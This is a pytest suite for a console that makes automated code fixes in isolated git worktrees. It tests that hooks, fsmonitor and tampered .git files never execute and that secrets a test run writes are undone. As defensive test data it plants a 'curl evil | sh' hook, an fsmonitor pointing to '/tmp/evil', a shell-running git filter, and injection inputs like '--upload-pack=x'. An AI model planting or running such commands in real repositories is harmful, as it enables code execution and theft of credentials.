"""Fix-attempt worktrees against real git: a bare "remote" and a developer clone of it."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from console.config import DEFAULT_SENSITIVE_PATHS
from console.fix.diffstat import FileStat
from console.fix.git import GitError, NotARepositoryError
from console.fix.paths import touched_sensitive
from console.fix.publish import NothingToCommitError, PushError, commit_all, push
from console.fix.worktree import (
    TestWrites,
    create_worktree,
    diff,
    remove_worktree,
    snapshot_files,
    snapshot_main,
    undo_test_writes,
    verify_main_untouched,
)
from tests.service_repo import git

FP = "0123456789abcdef"


# Every test here runs git without the developer's own config.
pytestmark = pytest.mark.usefixtures("isolated_git_config")


async def test_worktree_starts_from_fetched_remote_base_not_local_main(
    tmp_path: Path, remote: Path, clone: Path
) -> None:
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(remote), str(other))
    (other / "upstream.txt").write_text("pushed by a colleague\n")
    git(other, "add", ".")
    git(other, "commit", "-q", "-m", "colleague")
    git(other, "push", "-q", "origin", "main")
    (clone / "local-only.txt").write_text("unpushed\n")
    git(clone, "add", ".")
    git(clone, "commit", "-q", "-m", "local work")

    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")

    assert wt.branch == f"hotfix/auto-{FP}"
    assert wt.path == clone.resolve() / ".worktrees" / "hotfix" / f"auto-{FP}"
    assert wt.base_sha == git(remote, "rev-parse", "main")
    assert wt.warning is None
    assert (wt.path / "upstream.txt").exists()
    assert not (wt.path / "local-only.txt").exists()
    assert git(wt.path, "rev-parse", "--abbrev-ref", "HEAD") == wt.branch
    assert git(clone, "rev-parse", "--abbrev-ref", "HEAD") == "main"


async def test_worktrees_dir_is_excluded_without_editing_gitignore(clone: Path) -> None:
    before = (clone / ".gitignore").read_text()
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "new.js").write_text("x\n")

    assert (clone / ".gitignore").read_text() == before
    assert "/.worktrees/" in (clone / ".git" / "info" / "exclude").read_text().splitlines()
    assert git(clone, "status", "--porcelain") == ""
    await create_worktree(clone, "fedcba9876543210", base_branch="main", remote="origin")
    exclude = (clone / ".git" / "info" / "exclude").read_text()
    assert exclude.count("/.worktrees/") == 1


async def test_retry_recreates_worktree_from_clean_base(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "half-done.js").write_text("partial\n")
    (wt.path / "src" / "app.js").write_text("broken\n")
    await commit_all(wt, "interrupted attempt")

    again = await create_worktree(clone, FP, base_branch="main", remote="origin")

    assert again.path == wt.path
    assert git(again.path, "rev-parse", "HEAD") == again.base_sha == wt.base_sha
    assert not (again.path / "half-done.js").exists()
    assert (again.path / "src" / "app.js").read_text() == "module.exports = 1;\n"
    assert git(again.path, "status", "--porcelain") == ""


async def test_reuse_continues_an_interrupted_attempt(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "keep.js").write_text("work in progress\n")

    again = await create_worktree(clone, FP, base_branch="main", remote="origin", reuse=True)

    assert (again.path / "keep.js").read_text() == "work in progress\n"
    assert again.base_sha == wt.base_sha
    assert again.warning and "earlier attempt" in again.warning


async def test_leftover_directory_without_registration_is_replaced(clone: Path) -> None:
    stale = clone / ".worktrees" / "hotfix" / f"auto-{FP}"
    stale.mkdir(parents=True)
    (stale / "junk").write_text("left from a crash\n")

    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")

    assert not (wt.path / "junk").exists()
    assert (wt.path / "src" / "app.js").exists()


@pytest.mark.parametrize("bad", ["../../etc/passwd", "0123", "0123456789abcdeg", "", "-rf" * 6])
async def test_fingerprint_that_is_not_16_hex_is_rejected_before_touching_git(
    clone: Path, bad: str
) -> None:
    with pytest.raises(ValueError, match="16 hexadecimal"):
        await create_worktree(clone, bad, base_branch="main", remote="origin")
    assert not (clone / ".worktrees").exists()


async def test_path_that_is_not_a_repository_is_a_clear_error(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    with pytest.raises(NotARepositoryError, match="plain is not a git repository"):
        await create_worktree(plain, FP, base_branch="main", remote="origin")
    with pytest.raises(NotARepositoryError, match="does not exist"):
        await snapshot_main(tmp_path / "missing")


async def test_unknown_remote_and_bad_branch_names_are_clear_errors(clone: Path) -> None:
    with pytest.raises(ValueError, match="remote 'upstream' is not configured"):
        await create_worktree(clone, FP, base_branch="main", remote="upstream")
    with pytest.raises(ValueError, match="not a valid git name"):
        await create_worktree(clone, FP, base_branch="--upload-pack=x", remote="origin")


async def test_missing_remote_base_branch_is_an_error_not_a_fallback(clone: Path) -> None:
    git(clone, "branch", "release")
    with pytest.raises(GitError, match=r"couldn't find remote ref .*release"):
        await create_worktree(clone, FP, base_branch="release", remote="origin")


async def test_unreachable_remote_falls_back_to_local_base_and_says_so(
    clone: Path,
) -> None:
    last_fetched = git(clone, "rev-parse", "origin/main")
    git(clone, "remote", "set-url", "origin", "http://127.0.0.1:9/nobody-listens.git")

    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")

    assert wt.base_sha == last_fetched
    assert wt.base_ref == "origin/main"
    assert wt.warning and "unreachable" in wt.warning and "origin/main" in wt.warning


async def test_unreachable_remote_without_local_base_is_an_error(clone: Path) -> None:
    git(clone, "remote", "set-url", "origin", "http://127.0.0.1:9/nobody-listens.git")
    with pytest.raises(GitError, match="no local copy of 'develop'"):
        await create_worktree(clone, FP, base_branch="develop", remote="origin")


async def test_diff_shows_edits_new_files_binaries_and_deletions(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "src" / "app.js").unlink()
    (wt.path / "src" / "guard.js").write_text("a\nb\nc\n")
    (wt.path / "logo.png").write_bytes(b"\x89PNG\x00\x01\x02")
    (wt.path / ".gitignore").write_text("node_modules/\ndist/\n")
    (wt.path / "node_modules").mkdir()
    (wt.path / "node_modules" / "dep.js").write_text("ignored\n")

    result = await diff(wt)

    by_path = {s.path: s for s in result.stat}
    assert by_path["src/app.js"] == FileStat("src/app.js", 0, 1)
    assert by_path["src/guard.js"] == FileStat("src/guard.js", 3, 0)
    assert by_path[".gitignore"] == FileStat(".gitignore", 1, 0)
    assert by_path["logo.png"].binary
    assert "node_modules/dep.js" not in result.files
    assert len(result.files) == 4
    assert "+dist/" in result.text and "deleted file mode" in result.text
    assert "new file mode" in result.text and "+++ b/src/guard.js" in result.text


async def test_diff_includes_commits_made_inside_the_worktree(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "committed.js").write_text("one\n")
    git(wt.path, "add", ".")
    git(wt.path, "commit", "-q", "-m", "made during the attempt")
    (wt.path / "loose.js").write_text("two\n")

    result = await diff(wt)

    assert sorted(result.files) == ["committed.js", "loose.js"]


async def test_diff_reports_renames_with_both_paths(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    git(wt.path, "mv", "src/app.js", "src/main.js")

    result = await diff(wt)

    assert result.stat == [FileStat("src/main.js", 0, 0, old_path="src/app.js")]
    assert touched_sensitive(result.stat, ["src/app.js"]) == ["src/app.js"]


def test_sensitive_globs_follow_gitignore_conventions() -> None:
    paths = [
        ".github/workflows/ci.yml",
        "db/migrations/001_init.sql",
        "migrations/002.sql",
        "package-lock.json",
        "packages/api/package-lock.json",
        ".env",
        "config/.env.production",
        "src/environment.js",
        "src/migrations.js",
        "docs/.github.md",
    ]
    stat = [FileStat(p, 1, 0) for p in paths]
    patterns = (".github/**", "**/migrations/**", "package-lock.json", ".env*")

    assert touched_sensitive(stat, patterns) == paths[:7]
    assert touched_sensitive(stat, ["src/*.js"]) == ["src/environment.js", "src/migrations.js"]
    assert touched_sensitive(stat, ["db/"]) == ["db/migrations/001_init.sql"]
    assert touched_sensitive(stat, []) == []


async def test_snapshot_sees_head_branch_status_and_content_changes(clone: Path) -> None:
    (clone / "src" / "app.js").write_text("dirty 1\n")
    (clone / "notes.txt").write_text("untracked 1\n")
    before = await snapshot_main(clone)
    assert await verify_main_untouched(clone, before) == []

    (clone / "src" / "app.js").write_text("dirty 2\n")
    problems = await verify_main_untouched(clone, before)
    assert problems == ["file contents changed (status is the same, the content is not)"]
    (clone / "src" / "app.js").write_text("dirty 1\n")

    (clone / "notes.txt").write_text("untracked 2\n")
    assert len(await verify_main_untouched(clone, before)) == 1
    (clone / "notes.txt").write_text("untracked 1\n")

    (clone / "extra.txt").write_text("new\n")
    problems = await verify_main_untouched(clone, before)
    assert problems and "'?? extra.txt'" in problems[0]
    (clone / "extra.txt").unlink()

    git(clone, "stash", "-q", "-u")
    git(clone, "checkout", "-q", "-b", "elsewhere")
    git(clone, "commit", "-q", "--allow-empty", "-m", "moved")
    git(clone, "stash", "pop", "-q")
    problems = await verify_main_untouched(clone, before)
    assert any(p.startswith("HEAD moved from") for p in problems)
    assert "branch changed from main to elsewhere" in problems


async def test_commit_uses_fallback_author_when_repo_has_no_identity(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "fix.js").write_text("fixed\n")

    sha = await commit_all(wt, "Fix crash\n\n# kept: heading-like line\n")

    assert git(wt.path, "log", "-1", "--format=%an <%ae>", sha) == (
        "LevAutoFix <autofix@localhost>"
    )
    assert "# kept: heading-like line" in git(wt.path, "log", "-1", "--format=%B")
    assert git(wt.path, "status", "--porcelain") == ""


async def test_commit_uses_the_repository_identity_when_configured(clone: Path) -> None:
    git(clone, "config", "user.name", "Dana Developer")
    git(clone, "config", "user.email", "dana@example.com")
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "fix.js").write_text("fixed\n")

    sha = await commit_all(wt, "Fix crash")

    assert (
        git(wt.path, "log", "-1", "--format=%an <%ae>", sha) == "Dana Developer <dana@example.com>"
    )


async def test_commit_with_no_change_raises(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    with pytest.raises(NothingToCommitError, match="no changes"):
        await commit_all(wt, "nothing")


async def test_push_rejected_by_remote_hook_carries_gits_message(clone: Path, remote: Path) -> None:
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'policy: hotfix branches are frozen' >&2\nexit 1\n")
    hook.chmod(0o755)
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "fix.js").write_text("fixed\n")
    await commit_all(wt, "Fix crash")

    with pytest.raises(PushError) as caught:
        await push(wt, "origin", wt.branch)

    assert "policy: hotfix branches are frozen" in str(caught.value)
    assert caught.value.reason == "rejected by a hook on the remote"
    assert git(remote, "branch", "--list", wt.branch) == ""


async def test_push_of_a_recreated_branch_needs_force(clone: Path, remote: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "fix.js").write_text("first try\n")
    await commit_all(wt, "first")
    await push(wt, "origin", wt.branch)
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "fix.js").write_text("second try\n")
    second = await commit_all(wt, "second")

    with pytest.raises(PushError) as caught:
        await push(wt, "origin", wt.branch)
    assert "non-fast-forward" in caught.value.reason

    await push(wt, "origin", wt.branch, force=True)
    assert git(remote, "rev-parse", wt.branch) == second


async def test_remove_worktree_keeps_or_deletes_the_branch(clone: Path) -> None:
    before = await snapshot_main(clone)
    kept = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (kept.path / "scratch.js").write_text("uncommitted\n")
    await remove_worktree(clone, kept, delete_branch=False)
    assert not kept.path.exists()
    assert git(clone, "branch", "--list", kept.branch) != ""
    assert str(kept.path) not in git(clone, "worktree", "list")

    gone = await create_worktree(clone, "fedcba9876543210", base_branch="main", remote="origin")
    await remove_worktree(clone, gone, delete_branch=True)
    assert not gone.path.exists()
    assert git(clone, "branch", "--list", gone.branch) == ""
    assert await verify_main_untouched(clone, before) == []


async def test_remove_worktree_refuses_paths_outside_the_worktrees_dir(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    hostile = type(wt)(path=clone, branch="main", base_sha=wt.base_sha, repo=clone)
    with pytest.raises(ValueError, match="not inside"):
        await remove_worktree(clone, hostile, delete_branch=True)
    assert (clone / "src" / "app.js").exists()
    assert git(clone, "rev-parse", "--abbrev-ref", "HEAD") == "main"


class _AuthRequired(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="git"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


async def test_remote_asking_for_credentials_fails_fast_without_fallback(clone: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _AuthRequired)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/private.git"
        git(clone, "remote", "set-url", "origin", url)
        with pytest.raises(GitError, match="terminal prompts disabled"):
            await create_worktree(clone, FP, base_branch="main", remote="origin")
    finally:
        server.shutdown()
        server.server_close()


# --- git never executes anything from the repository --------------------------------------


def plant_hooks(git_dir: Path, marker: Path) -> None:
    """Executable hooks for everything the console does, each leaving a line in ``marker``."""
    for name in (
        "post-checkout",
        "reference-transaction",
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "pre-push",
        "post-index-change",
    ):
        hook = git_dir / "hooks" / name
        hook.write_text(f"#!/bin/sh\necho {name} >> {marker}\n")
        hook.chmod(0o755)


async def test_no_git_command_of_the_console_runs_a_hook_or_an_fsmonitor(
    tmp_path: Path, clone: Path
) -> None:
    marker = tmp_path / "executed.txt"
    plant_hooks(clone / ".git", marker)
    monitor = tmp_path / "fsmonitor.sh"
    monitor.write_text(f"#!/bin/sh\necho fsmonitor >> {marker}\n")
    monitor.chmod(0o755)
    git(clone, "config", "core.fsmonitor", str(monitor))
    git(clone, "status")  # the planted hooks and monitor do run for plain git
    assert marker.exists()
    marker.unlink()

    before = await snapshot_main(clone)
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "src" / "app.js").write_text("module.exports = 2;\n")
    await diff(wt)
    tree = await snapshot_files(wt)
    await undo_test_writes(wt, tree)
    await commit_all(wt, "fix")
    await push(wt, "origin", wt.branch)
    await verify_main_untouched(clone, before)
    await remove_worktree(clone, wt, delete_branch=True)

    assert not marker.exists(), marker.read_text()


async def test_main_checkout_check_names_a_planted_hook_and_a_changed_git_config(
    clone: Path,
) -> None:
    before = await snapshot_main(clone)
    hook = clone / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    with (clone / ".git" / "config").open("a") as fh:
        fh.write("[core]\n\tfsmonitor = /tmp/evil\n")

    problems = await verify_main_untouched(clone, before)

    assert problems == ["git directory changed: .git/config, .git/hooks/post-checkout"]
    after_write = await snapshot_main(clone)
    hook.chmod(0o755)  # only the executable bit changes: the hook now runs
    assert await verify_main_untouched(clone, after_write) == [
        "git directory changed: .git/hooks/post-checkout"
    ]


# --- what a test run writes never reaches the diff ------------------------------------------


async def test_undo_test_writes_keeps_claudes_edits_and_drops_what_the_tests_wrote(
    tmp_path: Path, clone: Path
) -> None:
    (clone / "keep.txt").write_text("tracked\n")
    (clone / "gone-later.txt").write_text("tracked\n")
    git(clone, "add", ".")
    git(clone, "commit", "-q", "-m", "more files")
    git(clone, "push", "-q", "origin", "main")
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    # Claude's change: an edit and a new test file.
    (wt.path / "src" / "app.js").write_text("module.exports = 2;\n")
    (wt.path / "src" / "app.test.js").write_text("// regression test\n")
    claude_diff = (await diff(wt)).text
    before = await snapshot_files(wt)
    # The test run: a dump, a nested directory, a link out, edits of Claude's files and of a
    # tracked one, a deletion, a chmod, a file hidden behind a rewritten .gitignore, and
    # a file in an ignored directory.
    (wt.path / "env-dump.txt").write_text("GITHUB_TOKEN=ghp_x\n")
    (wt.path / "out" / "deep").mkdir(parents=True)
    (wt.path / "out" / "deep" / "report.json").write_text("{}\n")
    (wt.path / "id_rsa").symlink_to(tmp_path / "home-key")
    (wt.path / "src" / "app.js").write_text("module.exports = 'exfiltrated';\n")
    (wt.path / "src" / "app.test.js").unlink()
    (wt.path / "keep.txt").write_text("changed by a test\n")
    (wt.path / "gone-later.txt").unlink()
    (wt.path / "src").chmod(0o755)
    (wt.path / ".gitignore").write_text("node_modules/\nhidden-dump.txt\n")
    (wt.path / "hidden-dump.txt").write_text("secret\n")
    (wt.path / "node_modules").mkdir()
    (wt.path / "node_modules" / "cache.json").write_text("{}\n")

    written = await undo_test_writes(wt, before)

    assert sorted(written.created) == [
        "env-dump.txt",
        "hidden-dump.txt",
        "id_rsa",
        "out/deep/report.json",
    ]
    assert sorted(written.changed) == [
        ".gitignore",
        "gone-later.txt",
        "keep.txt",
        "src/app.js",
        "src/app.test.js",
    ]
    assert (await diff(wt)).text == claude_diff
    assert (wt.path / "src" / "app.js").read_text() == "module.exports = 2;\n"
    assert not (wt.path / "id_rsa").is_symlink() and not (wt.path / "env-dump.txt").exists()
    assert (wt.path / "node_modules" / "cache.json").exists(), "ignored files are left alone"
    assert await undo_test_writes(wt, before) == TestWrites()


async def test_snapshot_of_the_worktree_leaves_its_index_and_files_alone(clone: Path) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    (wt.path / "new.js").write_text("x\n")
    status = git(wt.path, "status", "--porcelain")

    tree = await snapshot_files(wt)

    assert git(wt.path, "status", "--porcelain") == status == "?? new.js"
    assert "new.js" in git(wt.path, "ls-tree", "-r", "--name-only", tree).splitlines()


def test_default_sensitive_paths_flag_what_defines_the_test_run() -> None:
    changed = [
        "package.json",
        "packages/api/package.json",
        ".npmrc",
        "jest.config.js",
        "vitest.config.ts",
        ".mocharc.yml",
        "lib/users.js",
        "test/users.test.js",
        "docs/package.json.md",
    ]
    hits = touched_sensitive([FileStat(p, 1, 0) for p in changed], DEFAULT_SENSITIVE_PATHS)

    assert hits == changed[:6]


async def test_git_refuses_a_worktree_whose_git_file_was_pointed_elsewhere(
    tmp_path: Path, clone: Path
) -> None:
    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
    marker = tmp_path / "filter-ran.txt"
    elsewhere = tmp_path / "elsewhere"
    git(tmp_path, "init", "-q", str(elsewhere))
    git(elsewhere, "config", "filter.evil.clean", f"sh -c 'echo ran >> {marker}; cat'")
    (wt.path / ".gitattributes").write_text("* filter=evil\n")
    (wt.path / ".git").write_text(f"gitdir: {elsewhere / '.git'}\n")

    for operation in (diff(wt), snapshot_files(wt), commit_all(wt, "fix")):
        with pytest.raises(GitError, match="tampered with"):
            await operation
    (wt.path / ".git").unlink()
    (wt.path / ".git").symlink_to(elsewhere / ".git")
    with pytest.raises(GitError, match="is not a file"):
        await push(wt, "origin", wt.branch)
    assert not marker.exists()


async def test_an_empty_config_file_left_as_a_mount_point_is_no_change(clone: Path) -> None:
    before = await snapshot_main(clone)
    (clone / ".git" / "config.worktree").touch()
    (clone / ".git" / "info" / "attributes").touch()

    assert await verify_main_untouched(clone, before) == []
    (clone / ".git" / "config.worktree").write_text("[core]\n\tfsmonitor = /tmp/evil\n")
    assert await verify_main_untouched(clone, before) == [
        "git directory changed: .git/config.worktree"
    ]
